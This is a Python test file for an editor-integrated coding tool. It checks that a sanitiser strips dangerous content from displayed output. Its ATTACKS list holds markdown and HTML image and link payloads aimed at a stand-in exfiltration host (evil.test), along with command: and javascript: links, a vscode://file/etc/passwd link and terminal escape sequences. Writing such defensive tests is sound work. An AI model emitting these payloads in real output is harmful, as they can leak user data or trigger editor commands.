"""INJ-07: what is shown to people loads nothing, runs nothing, and hides no address."""

import io
import uuid
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from rich.console import Console
from rich.markdown import Markdown

from odin_lsp.config import Timeouts
from odin_lsp.events import EventRecord, MessageFinished, ToolFinished, TurnFinished, TurnStarted
from odin_lsp.markdown import harmless, unlinked
from odin_lsp.ports import Option, Question
from odin_lsp.records import Outcome
from odin_lsp.server.client import Abilities
from odin_lsp.server.editor import LspEditor
from odin_lsp.sessions.export import exported, transcript
from odin_lsp.sessions.session import Session
from odin_lsp.terminal.rich_renderer import RichRenderer
from odin_lsp.workspace.buffers import Buffers

CANARY = "https://evil.test/?d=canary"
ATTACKS = [
    f"![x]({CANARY})",
    f"![x](<{CANARY}> 'title')",
    f"![x][ref]\n\n[ref]: {CANARY}",
    f"![ref]\n\n[ref]: {CANARY}",
    f"[![x]({CANARY})]({CANARY})",
    f"[click]({CANARY})",
    f"[https://good.test/]({CANARY})",
    f'<img src="{CANARY}">',
    f"<img\nsrc='{CANARY}'>",
    f'<a href="{CANARY}">x</a>',
    '<a href="command:workbench.action.terminal.new">x</a>',
    "[run](command:workbench.action.terminal.new)",
    "[run](&#99;ommand:x)",
    "[run](<command:x y>)",
    "<command:x>",
    "[x](javascript:alert(1))",
    "![x](data:text/html;base64,AAAA)",
    "[x](vscode://file/etc/passwd)",
    "![x](//evil.test/x.png)",
    "![x](\\\\\\\\evil.test\\\\share)",
    "![x](file://evil.test/share)",
    f"<iframe src='{CANARY}'></iframe>",
    f"x <svg><image href='{CANARY}' /></svg>",
    f"<pre>\n```\n</pre>\n![x]({CANARY})\n```",
    f"- a\n\n  ```\n![x]({CANARY})\n  ```",
    f"> ```\n![x]({CANARY})",
    f"`a\n\n![x]({CANARY})`",
    f"``` `\n![x]({CANARY})\n```",
    f"\\`![x]({CANARY})`",
    f"| a |\n| - |\n| ![x]({CANARY}) |",
    f"{'>' * 60} ![x]({CANARY})",
    f"![{'[' * 50}x{']' * 50}]({CANARY})",
    f"![x]({CANARY}_(a))",
    f"<!-- ![x]({CANARY}) -->",
    "<?php x ?>",
]

HARMS = ("<img", "<a ", "<iframe", "<svg", "<image", "<?", "<!--")


def rendered(text: str) -> str:
    """HTML as an editor's preview makes it, with every link taken for good."""
    parser = MarkdownIt("js-default", {"html": True, "maxNesting": 1000})
    parser.validateLink = lambda url: True
    return parser.render(text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_is_loaded_or_linked(attack):
    for text in (attack, f"before\n{attack}\nafter", f"* {attack}", f"# T\n\n{attack}\n"):
        html = rendered(harmless(text))
        for harm in HARMS:
            assert harm not in html, harmless(text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_attacks_are_attacks(attack):
    html = rendered(attack)
    assert any(harm in html for harm in HARMS)


@pytest.mark.parametrize(
    "text",
    [
        "plain",
        "# Title\n\n- a *b* `c`\n\n| a | b |\n| - | - |\n| 1 | 2 |",
        "see [greet.py](src/greet.py#L3) and [here](#top) and [file](file:///home/me/x.py)",
        "<https://docs.python.org/3/> and https://docs.python.org/",
        f"`![x]({CANARY})` and `<img>`",
        f"```html\n<img src={CANARY}>\n```",
        f"    ![x]({CANARY})",
        "array[0] and a < b and [x] and todo [ ] x",
        "![local](diagram.png)",
    ],
)
def test_what_does_no_harm_stays_as_it_is(text):
    assert harmless(text) == text


def test_a_link_becomes_its_text_and_its_address():
    assert harmless(f"see [the docs]({CANARY}).") == f"see the docs ({CANARY})."
    assert harmless(f"![cat]({CANARY})") == f"(image: cat: {CANARY})"
    assert harmless("[run](command:x)") == "run (link removed)"
    assert harmless("a List<int> b") == "a List\\<int> b"


def test_what_a_terminal_would_obey_is_removed():
    assert harmless("a\x1b]52;c;AAAA\x07b\x9bc\u202ed\x00") == "a]52;c;AAAAbcd"
    assert harmless("a\r\nb\tc") == "a\nb\tc"


def test_a_code_block_that_is_left_open_is_closed():
    first, second = f"```\n![x]({CANARY})", f"```\n![x]({CANARY})\n```"
    document = f"{harmless(first)}\n\n{harmless(second)}\n\nend"
    assert "<img" not in rendered(document)
    assert rendered(document).endswith("<p>end</p>\n")


def test_a_definition_does_not_reach_into_another_answer():
    assert "<img" not in rendered(f"{harmless(f'[ref]: {CANARY}')}\n\n{harmless('![ref] and ![x][ref]')}")


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from([*"![]()<>`~\\ \n-#|:\"'&;a/", "https://e.test/", "](", "```", "<a ", "[r]: ", "    "]))
)
def test_no_text_renders_to_anything_that_loads(pieces):
    html = rendered(harmless("".join(pieces)))
    assert "<a  " not in html
    for image in html.split('<img src="')[1:]:  # of a file beside the text
        assert not image.startswith(("//", "https:"))
    for link in html.split('href="')[1:]:
        target = link.partition('"')[0]
        assert not target.startswith("//")
        shown = link.removeprefix(f'{target}">').partition("</a>")[0]
        assert not target.startswith("https:") or unquote(shown) == unquote(target)


class Screen:
    """The client's end, as far as it shows messages."""

    def __init__(self):
        self.messages = []

    def notify(self, method, params):
        self.messages.append(params.message)

    async def ask_client(self, method, params, timeout=None):
        self.messages.append(params.message)


async def test_messages_and_questions_have_no_links():
    assert unlinked("May Odin [run](command:x)?") == "May Odin [run] (command:x)?"
    screen = Screen()
    editor = LspEditor(screen, Buffers(), Abilities(), Timeouts)
    editor.notify("info", "[run](command:x)")
    await editor.ask(
        Question(
            question_id="q",
            kind="question",
            title="[a](command:x)",
            detail="[b](https://evil.test)",
            options=(Option("yes", "Yes"),),
        )
    )
    assert screen.messages == ["Odin: [run] (command:x)", "[a] (command:x)\n[b] (https://evil.test)"]


def test_the_terminal_shows_what_is_harmless(capsys):
    renderer = RichRenderer()
    renderer.show(EventRecord(1, "t", "s", "main", MessageFinished(f"![x]({CANARY})", 0)))
    renderer.close()
    assert f"(image: x: {CANARY})" in capsys.readouterr().out


def test_a_transcript_shows_nothing_from_elsewhere(tmp_path):
    session = Session(tmp_path)
    for attack in ATTACKS:
        turn_id = uuid.uuid4().hex
        done = ToolFinished(call_id="c", name="Read", status="success", description=attack, diff=attack, output=attack)
        outcome = Outcome(turn_id="", session_id="", mode="ask_mode", reason="failed", answer="", detail=attack)
        for event in (TurnStarted("ask_mode", attack, attack), done, MessageFinished(attack, 0), TurnFinished(outcome)):
            session.note_event(turn_id, "main", event)
    for text in (transcript(session), "".join(exported(tmp_path, session.id, "markdown"))):
        html = rendered(text)
        for harm in HARMS:
            assert harm not in html
        assert html.count("<details>") == len(ATTACKS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_terminal_gets_no_hyperlinks(attack):
    screen = io.StringIO()
    Console(file=screen, force_terminal=True, legacy_windows=False).print(Markdown(harmless(attack)))
    assert "\x1b]8;" not in screen.getvalue()
